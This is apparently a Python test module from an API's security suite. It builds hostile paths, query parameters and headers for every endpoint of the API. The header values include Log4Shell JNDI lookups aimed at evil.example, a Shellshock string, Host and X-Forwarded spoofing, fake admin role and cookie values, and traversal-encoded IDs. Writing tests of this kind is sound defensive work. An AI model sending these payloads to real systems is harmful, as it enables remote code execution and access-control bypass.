"""Hostile paths, parameters and headers: each on every operation that has such a place."""

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from tests.api.everything import NEEDED_QUERIES, Everything, Operation
from tests.attacks.injections import PAYLOADS

KNOWN = "5f0c2a6e-0f5e-4f0a-9f51-2b1f6c2d7e3a"

IDS = [
    "0", "-1", "1.5", "me", "*", "null", "undefined", "NaN", "[]", "{}", "%7B%7D", KNOWN[:-1],
    KNOWN + "0",
    "{" + KNOWN + "}", "urn:uuid:" + KNOWN, KNOWN.replace("-", ""), KNOWN + "%0a", "%20" + KNOWN,
    KNOWN + "%00", KNOWN + ".json", KNOWN + ";a=b", KNOWN + ",", "%2e%2e", "%2e%2e%2f", "..%5c",
    "%ff",
    "%c0%af", "%ed%a0%80", "%u0061", "a" * 3000, "%25" * 300,
]  # fmt: skip

VALUES = [
    "", " ", "0", "-1", "-0", "1.0", "1e9", "0x1", "١", "1_0", "99999999999999999999", "null",
    "true",
    "NaN", "Infinity", "[]", "{}", "[1]", "a,b", "*", KNOWN, KNOWN.upper(), KNOWN + "\n",
    "2026-12-01",
    "2026-12-01T09:00:00", "2026-12-01T09:00:00+99:99", "9999-12-31T23:59:59Z",
    "0001-01-01T00:00:00Z",
    "2026-12-01T09:00:00 07:00", "a" * 4000, "\ud7ff", "\ufffe", "a\x7f", "\u0301", "==", "W10=",
    "bnVsbA",
]  # fmt: skip

PARAMETERS = [
    "sort", "order", "order_by", "offset", "page", "fields", "include", "filter", "q", "where",
    "callback",
    "_method", "format", "debug", "limit[]", "limit[$gt]", "clinic_id", "role", "as", "key",
    "token",
    "__proto__", "", "'", "%", "\x00", "é", "a" * 2000,
]  # fmt: skip

MARKED = "marked-by-the-attacker"

HEADERS: dict[str, list[str]] = {
    "Authorization": ["Bearer", "Basic YTpi", "Bearer null", f"Bearer isk_{MARKED}_00000000",
    "Digest a"],
    "If-Match": ['"1', "W/", '"0"', '"-1"', '""', "1, 2", '"1","2"' * 200, "*,*", "\xff", 'W/"1"',
    "null"],
    "If-None-Match": ["*", '"1"', 'W/"1"'],
    "If-Modified-Since": ["Thu, 01 Jan 2099 00:00:00 GMT", "x"],
    "If-Unmodified-Since": ["Thu, 01 Jan 1970 00:00:00 GMT"],
    "If-Range": ['"1"'],
    "Range": ["bytes=0-", "bytes=0-1,2-3", "bytes=-1", "items=0-9", "bytes=" + "0-," * 500],
    "Idempotency-Key": ["", " ", "a b", "\xe9", "a" * 256, "a\tb", "'; --", "null", "a,b"],
    "Content-Range": ["bytes 0-1/2"],
    "Accept": ["text/html", "*/*;q=0", "application/xml", "x", "," * 500, "application/json;q=x"],
    "Accept-Encoding": ["gzip", "*;q=0", "x" * 2000],
    "Accept-Language": ["es", "*", "x" * 2000, "en;q=1e400"],
    "Accept-Charset": ["utf-16"],
    "X-Request-Id": [MARKED, "0" * 32, "a" * 4000, "${jndi:ldap://evil.example/a}"],
    "X-Correlation-Id": [MARKED],
    "Traceparent": [f"00-{'0' * 32}-{'0' * 16}-01"],
    "Host": ["evil.example", "evil.example:99999", "a b", "..", "[::1", "a" * 2000, "localhost:0"],
    "X-Forwarded-For": ["127.0.0.1", "::1", "127.0.0.1, " * 300, MARKED],
    "X-Forwarded-Host": ["evil.example"],
    "X-Forwarded-Proto": ["gopher"],
    "X-Forwarded-Prefix": ["/evil"],
    "X-Forwarded-Port": ["-1"],
    "X-Real-Ip": ["127.0.0.1"],
    "X-Script-Name": ["/evil"],
    "Forwarded": ["for=127.0.0.1;host=evil.example;proto=gopher"],
    "X-Original-Url": ["/v1/keys"],
    "X-Rewrite-Url": ["/v1/keys"],
    "X-Role": ["admin"],
    "X-Clinic-Id": [KNOWN],
    "Cookie": ["session=admin", "a=" + "b" * 4000, f"{MARKED}=1"],
    "Origin": ["https://evil.example", "null"],
    "Referer": [f"https://evil.example/{MARKED}"],
    "User-Agent": ["() { :;}; sleep 9", "${jndi:ldap://evil.example/a}", "", "a" * 4000],
    "Expect": ["100-continue", "x"],
    "Upgrade": ["websocket", "h2c"],
    "Connection": ["upgrade", "close, Authorization"],
    "Te": ["trailers"],
    "Prefer": ["return=minimal", "respond-async"],
    "Max-Forwards": ["0"],
    "Via": ["1.1 " + MARKED],
}  # fmt: skip


@dataclass(frozen=True)
class Request:
    """One hostile request: what is hostile in it, and how it is sent."""

    name: str
    operation: Operation
    how: dict[str, Any] = field(default_factory=dict)


def in_paths(ours: Everything, each: Operation) -> Iterator[Request]:
    """Each id of the path in turn is none."""
    payloads = [quote(text, safe="") for text in PAYLOADS if text not in (".", "..")]
    for place in each.path_ids:
        for text in [*IDS, *payloads]:
            path = each.rule
            for name in each.path_ids:
                path = path.replace(
                    f"<uuid:{name}>", text if name == place else str(ours.ids[name])
                )
            yield Request(f"{place} {text[:60]!a}", each, {"path": path})


def in_queries(ours: Everything, each: Operation) -> Iterator[Request]:
    """Each parameter there is with every value, and parameters that there are not."""
    needed = NEEDED_QUERIES.get(each.rule, {})
    known = each.schemas["query"].fields.items() if "query" in each.schemas else ()
    for name, kind in known:
        for text in [*VALUES, *PAYLOADS]:
            name = kind.data_key or name
            yield Request(f"{name}={text[:60]!a}", each, {"query": needed | {name: text}})
    for name in PARAMETERS:
        yield Request(f"parameter {name[:60]!a}", each, {"query": needed | {name: MARKED}})


def in_headers(ours: Everything, each: Operation) -> Iterator[Request]:
    """Each header with every value; none of them is a way to write."""
    names = [(name, text) for name, texts in HEADERS.items() for text in texts]
    for payload in PAYLOADS:
        if payload.isprintable() and payload.isascii():
            names += [(name, payload) for name in ("If-Match", "Idempotency-Key", "X-Request-Id")]
    for name, text in names:
        # As bytes on the wire are read: each one a character.
        yield Request(
            f"{name}: {text[:60]!a}", each, _unable(ours, each) | {"headers": {name: text}}
        )


def _unable(ours: Everything, each: Operation) -> dict[str, Any]:
    """A body that is refused once everything else has been looked at."""
    body = ours.bodies.get(each.name, {}) | {"unknown": MARKED}
    return {"body": None, "raw": json.dumps(body).encode()} if each.writes else {}
